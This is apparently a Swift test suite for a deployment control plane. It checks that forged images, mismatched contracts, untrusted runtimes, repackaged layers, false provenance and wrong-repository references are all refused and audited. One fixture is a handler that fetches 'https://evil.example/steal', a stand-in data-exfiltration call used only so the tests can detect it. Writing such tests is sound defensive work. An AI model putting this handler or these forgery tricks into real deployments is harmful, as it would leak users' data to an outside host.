import Archive
import ContentStore
import Contracts
import ControlPlaneAPI
import Digests
import Encodings
import Foundation
import Glibc
import JSON
import OCIImage
import TestSupport
import Testing

/// What somebody tries who has a token and means no good. Each ends with 422 and a row in the audit
/// log, and nothing is deployed.
@Suite struct LyingClientTests {
  static let harmless = Samples.hello
  static let evil = """
    import { fetch } from "zigttp:fetch";
    export function handler(req) {
      return fetch("https://evil.example/steal");
    }

    """

  /// Asks for the service to become an image; the problem that comes back.
  @discardableResult
  private func refused(
    _ plane: ControlPlaneProcess, _ session: DeploySession, _ deployed: DeployedHandler,
    _ token: String, sourceLocation: SourceLocation = #_sourceLocation
  ) throws -> Problem {
    let pushed = try deployed.push(to: session)
    #expect(pushed.status == 0, "\(pushed.errors)", sourceLocation: sourceLocation)
    let reply = try plane.put(session, deployed.service, deployed.image, token)
    #expect(reply.status == 422, "\(reply.text)", sourceLocation: sourceLocation)
    let problem = try Problem(answer: reply.body)
    let row = try #require(try plane.auditRows().last, sourceLocation: sourceLocation)
    #expect(row["action"]?.stringValue == "deploy.refused", sourceLocation: sourceLocation)
    #expect(row["serviceName"]?.stringValue == deployed.service, sourceLocation: sourceLocation)
    #expect(row["actor"]?["email"]?.stringValue == "ada@example.com")
    #expect(row["reasons"]?.stringArray == problem.reasons, sourceLocation: sourceLocation)
    #expect(
      try plane.ask("GET", "/v1/services/\(deployed.service)", token).status == 404,
      sourceLocation: sourceLocation)
    return problem
  }

  @Test func aHarmlessContractApprovedAndAnotherImagePushed() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    let good = try DeployedHandler(Self.harmless)
    let bad = try DeployedHandler(Self.evil)
    // The sources that the client names decide nothing either.
    for claims in [true, false] {
      var asked = good
      if !claims { asked.provenance = Provenance() }
      let session = try plane.session(asked, token)
      let problem = try refused(plane, session, bad, token)
      let (found, expected) = (bad.contract.sha256.hex, good.contract.sha256.hex)
      #expect(problem.reasons.first == "contract \(found), expected \(expected)")
      #expect(problem.reasons.contains("+ egress evil.example"), "\(problem.reasons)")
    }
    let verified = try plane.verifyAudit()
    #expect(verified.status == 0, "\(verified.output)\(verified.errors)")
  }

  /// The image says that its sources have the harmless contract.
  @Test func aClientThatLiesAboutTheContract() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    var deployed = try DeployedHandler(Self.harmless)
    let contract = deployed.contract
    let session = try plane.session(deployed, token)
    try deployed.forge { store, batch, honest in
      let app = try AppLayer(
        sources: [AppLayer.File(path: "handler.ts", bytes: Array(Self.evil.utf8))],
        contract: contract.canonicalBytes)
      let config = try honest.config(in: store.blobs)
      return try Image.add(
        app: app, facts: contract.facts,
        runtime: RuntimeLayer(
          diffID: try #require(config.diffIDs.first),
          descriptor: try #require(honest.layers.first)),
        platform: config.platform, created: 0, to: batch
      ).descriptor
    }
    let problem = try refused(plane, session, deployed, token)
    #expect(problem.reasons.first?.hasSuffix("expected \(contract.sha256.hex)") == true)
    #expect(problem.reasons.contains("+ egress evil.example"), "\(problem.reasons)")
  }

  /// A runtime that nobody here has looked at, whatever its layer is said to unpack to.
  @Test func aForeignRuntime() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    let honest = try DeployedHandler(Self.harmless)
    let runtime = honest.project.home + "/zigttp-runtime"
    var bytes = try Data(contentsOf: URL(fileURLWithPath: Programs.runtime))
    bytes.append(contentsOf: Array("changed".utf8))
    try bytes.write(to: URL(fileURLWithPath: runtime))
    chmod(runtime, 0o755)
    var foreign = try DeployedHandler(Self.harmless, runtime: runtime)
    #expect(foreign.contract == honest.contract)
    #expect(foreign.image != honest.image)
    let session = try plane.session(foreign, token)
    let problem = try refused(plane, session, foreign, token)
    #expect(problem.reasons.first?.hasPrefix("runtime layer sha256:") == true)

    let own = try DeployedHandler.image(
      honest.image, in: DeployedHandler.store(honest.project)
    ).config(in: DeployedHandler.store(honest.project).blobs)
    let trusted = try #require(own.diffIDs.first)
    let contract = foreign.contract
    try foreign.forge { store, batch, image in
      let contents = try image.appContents(in: store.blobs)
      let app = try AppLayer(sources: contents.sources, contract: contents.contract)
      return try Image.add(
        app: app, facts: contract.facts,
        runtime: RuntimeLayer(
          diffID: trusted, descriptor: try #require(image.layers.first)),
        platform: try image.config(in: store.blobs).platform, created: 0, to: batch
      ).descriptor
    }
    let again = try refused(plane, session, foreign, token)
    #expect(again.reasons.first?.hasPrefix("runtime layer unpacks to sha256:") == true)
  }

  /// The operator may trust another runtime besides.
  @Test func aRuntimeThatIsTrusted() throws {
    let honest = try DeployedHandler(Self.harmless)
    let runtime = honest.project.home + "/zigttp-runtime"
    var bytes = try Data(contentsOf: URL(fileURLWithPath: Programs.runtime))
    bytes.append(contentsOf: Array("newer".utf8))
    try bytes.write(to: URL(fileURLWithPath: runtime))
    chmod(runtime, 0o755)
    let newer = try DeployedHandler(Self.harmless, runtime: runtime)
    let store = try DeployedHandler.store(newer.project)
    let config = try DeployedHandler.image(newer.image, in: store).config(in: store.blobs)
    let layer = try #require(config.diffIDs.first)
    let plane = try ControlPlaneProcess(["--trust-runtime", "\(layer)"])
    let token = try plane.token()
    #expect(try plane.deploy(newer, token).generation == 1)
    #expect(try plane.deploy(honest, token, generation: 1).generation == 2)
  }

  /// What only the form of the image says: other settings, other files, another order.
  @Test func anImageThatIsPackedOtherwise() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    let honest = try DeployedHandler(Self.harmless)
    let session = try plane.session(honest, token)
    let contract = honest.contract

    func forged(
      _ app: (AppContents) throws -> [UInt8], _ config: (inout ImageConfig) -> Void = { _ in },
      _ manifest: (inout Manifest) -> Void = { _ in }
    ) throws -> DeployedHandler {
      var deployed = honest
      try deployed.forge { store, batch, image in
        let tar = try app(try image.appContents(in: store.blobs))
        var settings = try image.config(in: store.blobs)
        settings.diffIDs[1] = .sha256(of: tar)
        config(&settings)
        var document = Manifest(
          config: try batch.add(settings.bytes).descriptor(MediaType.config),
          layers: [image.layers[0], try batch.add(tar).descriptor(MediaType.layer)])
        manifest(&document)
        return try batch.add(document.bytes).descriptor(MediaType.manifest)
      }
      return deployed
    }
    func packed(_ contents: AppContents, _ more: [TarEntry] = []) throws -> [UInt8] {
      try AppLayer(sources: contents.sources, contract: contents.contract).tar
    }
    let cases: [(what: String, DeployedHandler)] = [
      ("root", try forged({ try packed($0) }, { $0.user = "0" })),
      ("another program", try forged({ try packed($0) }, { $0.entrypoint = ["/app/x"] })),
      ("another label", try forged({ try packed($0) }, { $0.labels["zigttp.read-only"] = "x" })),
      ("a note", try forged({ try packed($0) }, { _ in }, { $0.annotations = ["a": "b"] })),
      (
        "a file that nothing imports",
        try forged {
          try AppLayer(
            sources: $0.sources + [AppLayer.File(path: "more.ts", bytes: [0x3b])],
            contract: $0.contract
          ).tar
        }
      ),
      (
        "a file that app.json does not name",
        try forged { contents in
          let honest = try AppFiles(MemorySource(try packed(contents)))
          let files = honest.inOrder + [(AppManifest.fileName, honest.manifest.bytes)]
          return try TarWriter(
            files.map { TarEntry.file("app/\($0.0)", $0.1) } + [.file("app/more", [1])]
          ).bytes()
        }
      ),
      (
        "a file elsewhere",
        try forged { contents in
          let honest = try AppFiles(MemorySource(try packed(contents)))
          let files = honest.inOrder + [(AppManifest.fileName, honest.manifest.bytes)]
          return try TarWriter(
            files.map { TarEntry.file("app/\($0.0)", $0.1) }
              + [.file("etc/ssl/certs/ca-certificates.crt", [1])]
          ).bytes()
        }
      ),
      ("no tar", try forged { _ in Array("no tar".utf8) }),
      (
        "three layers", try forged({ try packed($0) }, { _ in }, { $0.layers.append($0.layers[1]) })
      ),
      ("one layer", try forged({ try packed($0) }, { _ in }, { $0.layers.removeFirst() })),
    ]
    #expect(try contract == Contract(bytes: contract.canonicalBytes))
    for (what, deployed) in cases {
      let problem = try refused(plane, session, deployed, token)
      #expect(!problem.reasons.isEmpty, "\(what)")
    }
    // The same session still takes the honest one.
    #expect(try honest.push(to: session).status == 0)
    #expect(try plane.put(session, "orders", honest.image, token).status == 202)
  }

  @Test func anotherProverIsNamedBesideOurs() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    var deployed = try DeployedHandler(Self.harmless)
    deployed.provenance.prover = "99"
    let session = try plane.session(deployed, token)
    let problem = try refused(plane, session, deployed, token)
    #expect(problem.reasons.first?.hasPrefix("prover 99, expected ") == true)
  }

  @Test func sourcesThatAreNotThoseThatWereClaimed() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    var deployed = try DeployedHandler(Self.harmless)
    deployed.provenance.sources = .sha256(of: "others")
    let session = try plane.session(deployed, token)
    let problem = try refused(plane, session, deployed, token)
    #expect(problem.reasons.first?.hasPrefix("sources ") == true)
  }

  /// Images at other places are refused before anybody asks there.
  @Test func anImageThatIsNotTheSessions() throws {
    let plane = try ControlPlaneProcess()
    let token = try plane.token()
    let deployed = try DeployedHandler(Self.harmless)
    let other = try DeployedHandler(Self.harmless, service: "other")
    let session = try plane.session(deployed, token)
    let listener = try SilentListener()
    for image in [
      "127.0.0.1:\(listener.port)/services/orders@\(deployed.image)",
      "\(session.registryHost)/services/other@\(deployed.image)",
      "\(session.registryHost)/services/orders/x@\(deployed.image)",
      "\(session.registryHost)/services/orders:latest",
      "\(session.registryHost)/services/../services/orders@\(deployed.image)", "",
    ] {
      let update = ServiceUpdate(
        sessionID: session.sessionID, image: image, env: [:], keepEnv: [], ifGeneration: nil)
      let reply = try plane.ask("PUT", "/v1/services/orders", token, update.json)
      #expect(reply.status == 422, "\(image): \(reply.text)")
    }
    #expect(!listener.wasAsked)
    // What was never pushed, and what another repository has.
    #expect(try plane.put(session, "orders", deployed.image, token).status == 422)
    let others = try plane.session(other, token)
    #expect(try other.push(to: others).status == 0)
    #expect(try plane.put(session, "orders", other.image, token).status == 422)
    // Somebody else's session, and the session of another service.
    let bob = try plane.token("bob@example.com")
    #expect(try plane.put(session, "orders", deployed.image, bob).status == 403)
    #expect(try plane.put(session, "other", deployed.image, token).status == 403)
    // The credentials of one service push to no other.
    let wrong = try deployed.push(
      to: "\(session.registryHost)/services/other", host: session.registryHost,
      session.registryUsername, session.registryPassword)
    #expect(wrong.status != 0)
  }
}

/// Listens, and notices whether anybody came.
final class SilentListener {
  private let descriptor: Int32
  let port: Int

  init() throws {
    descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue | SOCK_CLOEXEC.rawValue), 0)
    var place = sockaddr_in()
    place.sin_family = sa_family_t(AF_INET)
    place.sin_addr.s_addr = inet_addr("127.0.0.1")
    var length = socklen_t(MemoryLayout<sockaddr_in>.size)
    let descriptor = descriptor
    let isListening = withUnsafeMutablePointer(to: &place) {
      $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        bind(descriptor, $0, length) == 0 && listen(descriptor, 8) == 0
          && getsockname(descriptor, $0, &length) == 0
      }
    }
    guard isListening else { throw Server.Failure(description: "no listener") }
    port = Int(UInt16(bigEndian: place.sin_port))
  }

  deinit { close(descriptor) }

  var wasAsked: Bool {
    var poll = pollfd(fd: descriptor, events: Int16(POLLIN), revents: 0)
    return Glibc.poll(&poll, 1, 0) > 0
  }
}
